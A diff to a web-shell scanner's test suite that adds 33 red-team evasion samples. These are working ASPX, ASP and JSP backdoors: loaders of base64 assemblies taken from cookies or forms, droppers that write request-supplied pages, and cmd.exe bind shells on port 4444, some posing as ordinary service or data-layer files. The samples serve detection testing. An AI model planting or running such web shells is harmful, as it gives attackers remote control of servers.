@@ -772,6 +772,359 @@ public static class UploadHelper
 `],
 ];
 
+// The red team's working variants of the session's first rules (bench/redteam/README-s29.md), caught now:
+// [what, the rule, path, the file]
+const RED_TEAM: [string, string, string, string][] = [
+  ['S29R-22: asm_alc.cshtml', 'mamori_aspx_assembly_load', '/www/asm_alc.cshtml', `@using System.Runtime.Loader
+@{
+    var body = new System.IO.MemoryStream();
+    await Context.Request.Body.CopyToAsync(body);
+    body.Position = 0;
+    var asm = AssemblyLoadContext.Default.LoadFromStream(body);
+    asm.CreateInstance("U")?.Equals(Context);
+}
+`],
+  ['S29R (variant): asm_cookie.aspx', 'mamori_aspx_assembly_load', '/www/asm_cookie.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  var c = Request.Cookies["k"];
+  if (c == null) return;
+  byte[] b = Convert.FromBase64String(c.Value);
+  System.Reflection.Assembly.Load(b).CreateInstance("U").Equals(this);
+}
+</script>
+`],
+  ['S29R-19: asm_cookie_urldecode.aspx', 'mamori_aspx_assembly_load', '/www/asm_cookie_urldecode.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  System.Reflection.Assembly.Load(Convert.FromBase64String(HttpUtility.UrlDecode(Request.Cookies["k"].Value))).CreateInstance("U").Equals(this);
+}
+</script>
+`],
+  ['S29R (variant): asm_dom_field.aspx', 'mamori_aspx_assembly_load', '/www/asm_dom_field.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+static readonly AppDomain Dom = AppDomain.CurrentDomain;
+void Page_Load(object o, EventArgs e) {
+  byte[] b = Convert.FromBase64String(Request.Form["k"]);
+  var a = Dom.Load(b);
+  a.CreateInstance("U").Equals(this);
+}
+</script>
+`],
+  ['S29R (variant): asm_loadv_member.aspx', 'mamori_aspx_assembly_load', '/www/asm_loadv_member.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  var dom = AppDomain.CurrentDomain;
+  byte[] b = Convert.FromBase64String(Request.Form["k"]);
+  var asm = dom.Load(b);
+  asm.CreateInstance("U").Equals(this);
+}
+</script>
+`],
+  ['S29R-21: asm_reflect_invoke.aspx', 'mamori_aspx_reflective_assembly_load', '/www/asm_reflect_invoke.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  var k = Context.Request.Cookies["k"].Value;
+  var t = typeof(System.Reflection.Assembly);
+  var a = t.GetMethod("Lo" + "ad", new[] { typeof(byte[]) }).Invoke(null, new object[] { Convert.FromBase64String(k) });
+  a.GetType().GetMethod("CreateInstance", new[] { typeof(string) }).Invoke(a, new object[] { "U" });
+}
+</script>
+`],
+  ['S29R (variant): asm_urldecode.aspx', 'mamori_aspx_assembly_load', '/www/asm_urldecode.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  var d = Thread.GetDomain();
+  var a = d.Load(Convert.FromBase64String(HttpUtility.UrlDecode(Context.Request.Cookies["k"].Value)));
+  a.CreateInstance("U").Equals(this);
+}
+</script>
+`],
+  ['S29R-25: asmfile_copyto.aspx', 'mamori_aspx_request_assembly_file', '/www/asmfile_copyto.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  string p = System.IO.Path.GetTempFileName();
+  using (var fs = System.IO.File.Create(p)) Request.InputStream.CopyTo(fs);
+  System.Reflection.Assembly.LoadFrom(p).CreateInstance("U").Equals(this);
+}
+</script>
+`],
+  ['S29R-24: asmfile_createinstancefrom.aspx', 'mamori_aspx_request_assembly_file', '/www/asmfile_createinstancefrom.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  string p = System.IO.Path.GetTempFileName();
+  System.IO.File.WriteAllBytes(p, Convert.FromBase64String(Request.Form["k"]));
+  Activator.CreateInstanceFrom(p, "U").Unwrap().Equals(this);
+}
+</script>
+`],
+  ['S29R-23: asmfile_executeassembly.aspx', 'mamori_aspx_request_assembly_file', '/www/asmfile_executeassembly.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  string p = System.IO.Path.GetTempFileName() + ".exe";
+  System.IO.File.WriteAllBytes(p, Convert.FromBase64String(Request.Form["k"]));
+  AppDomain.CurrentDomain.ExecuteAssembly(p);
+}
+</script>
+`],
+  ['S29R-27: asmfile_multiline.aspx', 'mamori_aspx_request_assembly_file', '/www/asmfile_multiline.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  string p = System.IO.Path.GetTempFileName();
+  System.IO.File.WriteAllBytes(
+      p,
+      Convert.FromBase64String(Request.Form["k"]));
+  System.Reflection.Assembly.LoadFile(p).CreateInstance("U").Equals(this);
+}
+</script>
+`],
+  ['S29R-26: asmfile_upload.aspx', 'mamori_aspx_request_assembly_file', '/www/asmfile_upload.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  if (Request.Files.Count == 0) return;
+  string p = System.IO.Path.Combine(System.IO.Path.GetTempPath(), Guid.NewGuid().ToString("N") + ".dll");
+  Request.Files[0].SaveAs(p);
+  System.Reflection.Assembly.LoadFrom(p).CreateInstance("U").Equals(this);
+}
+</script>
+`],
+  ['S29R (variant): asmfile_var.aspx', 'mamori_aspx_request_assembly_file', '/www/asmfile_var.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  string p = System.IO.Path.GetTempFileName();
+  string data = Request.Form["k"];
+  byte[] bytes = Convert.FromBase64String(data);
+  System.IO.File.WriteAllBytes(p, bytes);
+  System.Reflection.Assembly.LoadFile(p).CreateInstance("U").Equals(this);
+}
+</script>
+`],
+  ['S29R (variant): com_cookie.asp', 'mamori_asp_com_dotnet_loader', '/www/com_cookie.asp', `<%
+' input from a cookie: $in only knows Request(, Request.Form(, .QueryString(, .Item(, .BinaryRead(
+Set x = CreateObject("MSXML2.DOMDocument").createElement("b")
+x.DataType = "bin.base64"
+x.Text = Request.Cookies("d")
+Set d = CreateObject("System.AppDomain").CurrentDomain
+Set asm = d.Load_3(x.NodeTypedValue)
+asm.CreateInstance("Q").Equals(Nothing)
+%>
+`],
+  ['S29R-28: com_formitem.asp', 'mamori_asp_com_dotnet_loader', '/www/com_formitem.asp', `<%
+Set x = CreateObject("MSXML2.DOMDocument").createElement("b")
+x.DataType = "bin.base64"
+x.Text = Request.Form.Item("d")
+Set d = CreateObject("System.AppDomain").CurrentDomain
+Set asm = d.Load_3(x.NodeTypedValue)
+asm.CreateInstance("Q").Equals(Nothing)
+%>
+`],
+  ['S29R-30: com_jscript_activex.asp', 'mamori_asp_com_dotnet_loader', '/www/com_jscript_activex.asp', `<%@ Language="JScript" %>
+<%
+var x = new ActiveXObject("MSXML2.DOMDocument").createElement("b");
+x.dataType = "bin.base64"; x.text = Request.Form("d");
+var d = new ActiveXObject("System.AppDomain").CurrentDomain;
+var asm = d.Load_3(x.nodeTypedValue);
+asm.CreateInstance("Q");
+%>
+`],
+  ['S29R-31: com_jscript_squote.asp', 'mamori_asp_com_dotnet_loader', '/www/com_jscript_squote.asp', `<%@ Language="JScript" %>
+<%
+var x = Server.CreateObject('MSXML2.DOMDocument').createElement('b');
+x.dataType = 'bin.base64'; x.text = Request.Form('d');
+var d = Server.CreateObject('System.AppDomain').CurrentDomain;
+var asm = d['Load_3'](x.nodeTypedValue);
+asm.CreateInstance('Q');
+%>
+`],
+  ['S29R-29: com_servervar.asp', 'mamori_asp_com_dotnet_loader', '/www/com_servervar.asp', `<%
+Set x = CreateObject("MSXML2.DOMDocument").createElement("b")
+x.DataType = "bin.base64"
+x.Text = Request.ServerVariables("HTTP_X_DATA")
+Set d = CreateObject("System.AppDomain").CurrentDomain
+Set asm = d.Load_3(x.NodeTypedValue)
+asm.CreateInstance("Q").Equals(Nothing)
+%>
+`],
+  ['S29R-34: com_unsafedeser.asp', 'mamori_asp_com_dotnet_loader', '/www/com_unsafedeser.asp', `<%
+Set x = CreateObject("MSXML2.DOMDocument").createElement("b")
+x.DataType = "bin.base64" : x.Text = Request.Form("p")
+Set stm = CreateObject("System.IO.MemoryStream")
+stm.Write_2 x.NodeTypedValue, 0, LenB(x.NodeTypedValue)
+stm.Position = 0
+Set fmt = CreateObject("System.Runtime.Serialization.Formatters.Binary.BinaryFormatter")
+Set d = fmt.UnsafeDeserialize(stm, Nothing)
+d.DynamicInvoke(Array()).CreateInstance("Q")
+%>
+`],
+  ['S29R (variant): jsp_ext_const.jsp', 'mamori_jsp_request_page_dropper', '/www/jsp_ext_const.jsp', `<%@ page import="java.io.*" %>
+<%!
+  static final String EXT = ".jsp";
+%>
+<%
+  File f = new File(application.getRealPath("/"), Long.toHexString(System.nanoTime()) + EXT);
+  try (FileOutputStream o = new FileOutputStream(f)) {
+    o.write(java.util.Base64.getDecoder().decode(request.getParameter("d")));
+  }
+  out.print(f.getName());
+%>
+`],
+  ['S29R (variant): jsp_jspx_upper.jsp', 'mamori_jsp_request_page_dropper', '/www/jsp_jspx_upper.jsp', `<%@ page import="java.io.*,java.nio.file.*" %>
+<%
+  Path p = Paths.get(application.getRealPath("/"), "s" + System.nanoTime() + ".js" + "px".substring(1));
+  Files.write(p, java.util.Base64.getDecoder().decode(request.getParameter("d")));
+  out.print(p.getFileName());
+%>
+`],
+  ['S29R (variant): jsp_multiline.jsp', 'mamori_jsp_request_page_dropper', '/www/jsp_multiline.jsp', `<%@ page import="java.io.*" %>
+<%
+  File f = new File(application.getRealPath("/"),
+                    System.nanoTime() + ".jsp");
+  try (FileOutputStream o = new FileOutputStream(f)) {
+    o.write(java.util.Base64.getDecoder().decode(request.getParameter("d")));
+  }
+  out.print(f.getName());
+%>
+`],
+  ['S29R (variant): jsp_resolve.jsp', 'mamori_jsp_request_page_dropper', '/www/jsp_resolve.jsp', `<%@ page import="java.io.*,java.nio.file.*" %>
+<%
+  Path root = Paths.get(application.getRealPath("/"));
+  Path p = root.resolve(Long.toString(System.nanoTime(), 36) + ".jsp");
+  Files.write(p, java.util.Base64.getDecoder().decode(request.getParameter("d")));
+  out.print(p.getFileName());
+%>
+`],
+  ['S29R-48: jsp_sb.jsp', 'mamori_jsp_request_page_dropper', '/www/jsp_sb.jsp', `<%@ page import="java.io.*" %>
+<%
+  String name = new StringBuilder(application.getRealPath("/")).append(File.separator).append(System.nanoTime()).append(".jsp").toString();
+  try (FileOutputStream o = new FileOutputStream(name)) {
+    o.write(java.util.Base64.getDecoder().decode(request.getParameter("d")));
+  }
+  out.print(name);
+%>
+`],
+  ['S29R (variant): site/App_Code/Loader.CS', 'mamori_aspx_assembly_load', '/www/App_Code/Loader.CS', `<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  System.Reflection.Assembly.Load(Convert.FromBase64String(Context.Request.Form.Get("k"))).CreateInstance("U").Equals(Context);
+}
+</script>
+`],
+  ['S29R (variant): site/Health.svc', 'mamori_aspx_assembly_load', '/www/Health.svc', `<%@ ServiceHost Language="C#" Debug="false" Service="Health" %>
+using System;
+using System.ServiceModel;
+using System.ServiceModel.Web;
+using System.Web;
+
+[ServiceContract]
+public class Health
+{
+    [OperationContract, WebInvoke(Method = "POST", UriTemplate = "ping")]
+    public string Ping()
+    {
+        System.Reflection.Assembly.Load(Convert.FromBase64String(HttpContext.Current.Request.Form["k"])).CreateInstance("U").Equals(this);
+        return "ok";
+    }
+}
+`],
+  ['S29R-57: site/Status.aspx.cs', 'mamori_aspx_assembly_load', '/www/Status.aspx.cs', `using System;
+using System.Web.UI;
+
+public partial class Status : Page
+{
+    protected void Page_Load(object sender, EventArgs e)
+    {
+        System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["k"])).CreateInstance("U").Equals(this);
+    }
+}
+`],
+  ['S29R (variant): smallsite/App_Code/DataLayer.cs', 'mamori_aspx_assembly_load', '/www/App_Code/DataLayer.cs', `using System;
+using System.Web;
+public static class BigRepo {
+
+  public static void Warm(HttpContext ctx) {
+    var dom = AppDomain.CurrentDomain;
+    byte[] b = Convert.FromBase64String(ctx.Request.Form["k"]);
+    var asm = dom.Load(b);
+    asm.CreateInstance("U").Equals(ctx);
+  }
+}
+`],
+  ['S29R-37: sock_basestream.aspx', 'mamori_aspx_socket_shell', '/www/sock_basestream.aspx', `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  var l = new TcpListener(IPAddress.Any, 4444); l.Start();
+  var c = l.AcceptTcpClient(); var ns = c.GetStream();
+  var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.UseShellExecute = false;
+  p.StartInfo.RedirectStandardInput = true; p.StartInfo.RedirectStandardOutput = true;
+  p.Start();
+  var t = p.StandardOutput.BaseStream.CopyToAsync(ns);
+  ns.CopyTo(p.StandardInput.BaseStream);
+}
+</script>
+`],
+  ['S29R-35: sock_notfalse.aspx', 'mamori_aspx_socket_shell', '/www/sock_notfalse.aspx', `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  var l = new TcpListener(IPAddress.Any, 4444); l.Start();
+  var c = l.AcceptTcpClient(); var ns = c.GetStream();
+  var rd = new StreamReader(ns); var wr = new StreamWriter(ns) { AutoFlush = true };
+  var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.UseShellExecute = false;
+  p.StartInfo.RedirectStandardInput = !false; p.StartInfo.RedirectStandardOutput = !false;
+  p.OutputDataReceived += (a, x) => wr.WriteLine(x.Data);
+  p.Start(); p.BeginOutputReadLine();
+  for (string line; (line = rd.ReadLine()) != null; ) p.StandardInput.WriteLine(line);
+}
+</script>
+`],
+  ['S29R-39: sock_rawbind.aspx', 'mamori_aspx_socket_shell', '/www/sock_rawbind.aspx', `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
+  s.Bind(new IPEndPoint(IPAddress.Any, 4444)); s.Listen(1);
+  var ns = new NetworkStream(s.Accept()); var rd = new StreamReader(ns); var wr = new StreamWriter(ns) { AutoFlush = true };
+  var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.UseShellExecute = false;
+  p.StartInfo.RedirectStandardInput = true; p.StartInfo.RedirectStandardOutput = true;
+  p.OutputDataReceived += (a, x) => wr.WriteLine(x.Data);
+  p.Start(); p.BeginOutputReadLine();
+  for (string line; (line = rd.ReadLine()) != null; ) p.StandardInput.WriteLine(line);
+}
+</script>
+`],
+  ['S29R-40: sock_server_accept.aspx', 'mamori_aspx_socket_shell', '/www/sock_server_accept.aspx', `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  var l = new TcpListener(IPAddress.Any, 4444); l.Start();
+  var ns = new NetworkStream(l.Server.Accept(), true); var rd = new StreamReader(ns); var wr = new StreamWriter(ns) { AutoFlush = true };
+  var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.UseShellExecute = false;
+  p.StartInfo.RedirectStandardInput = true; p.StartInfo.RedirectStandardOutput = true;
+  p.OutputDataReceived += (a, x) => wr.WriteLine(x.Data);
+  p.Start(); p.BeginOutputReadLine();
+  for (string line; (line = rd.ReadLine()) != null; ) p.StandardInput.WriteLine(line);
+}
+</script>
+`],
+  ['S29R-38: sock_stdin_var.aspx', 'mamori_aspx_socket_shell', '/www/sock_stdin_var.aspx', `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  var l = new TcpListener(IPAddress.Any, 4444); l.Start();
+  var c = l.AcceptTcpClient(); var ns = c.GetStream();
+  var rd = new StreamReader(ns); var wr = new StreamWriter(ns) { AutoFlush = true };
+  var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.UseShellExecute = false;
+  p.StartInfo.RedirectStandardInput = true; p.StartInfo.RedirectStandardOutput = true;
+  p.OutputDataReceived += (a, x) => wr.WriteLine(x.Data);
+  p.Start(); p.BeginOutputReadLine();
+  var stdin = p.StandardInput;
+  for (string line; (line = rd.ReadLine()) != null; ) stdin.WriteLine(line);
+}
+</script>
+`],
+];
+
 describe('scan: session 28\'s open evasions (S28R), samples of our own', () => {
   for (const [name, rule, path, src] of MALICIOUS) {
     it(`malicious: ${name}`, () => {
@@ -813,7 +1166,15 @@ describe('scan: session 28\'s open evasions (S28R), samples of our own', () => {
     assert.ok(r.findings.some((f) => f.rule === 'mamori:scan-failed' && f.description.includes('boom')), JSON.stringify(r.findings));
     assert.match(r.sha256, /^[0-9a-f]{64}$/);
   });
+  for (const [name, rule, path, src] of RED_TEAM) {
+    it(`malicious: ${name}`, () => {
+      const r = scan(src, path);
+      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
+      assert.ok(r.findings.some((f) => f.rule === rule), `${rule} not among ${r.findings.map((f) => f.rule).join(', ')}`);
+    });
+  }
   it('ran every case', () => {
+    assert.equal(RED_TEAM.length, 33);
     assert.equal(MALICIOUS.length, 26);
     assert.equal(UPLOADERS.length, 2);
     assert.equal(BENIGN.length, 23);
